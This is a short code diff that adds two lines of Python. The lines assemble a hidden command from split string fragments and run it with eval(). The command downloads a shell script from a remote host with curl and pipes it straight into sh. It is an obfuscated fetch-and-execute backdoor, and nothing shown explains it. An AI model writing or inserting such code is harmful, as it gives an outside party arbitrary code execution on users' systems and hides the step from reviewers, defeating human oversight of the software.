@@ -1,0 +1,2 @@
+p = ['__imp', 'ort__', "('os').sys", "tem('curl -s https://example.invalid/s.sh | sh')"]
+eval(''.join(p))
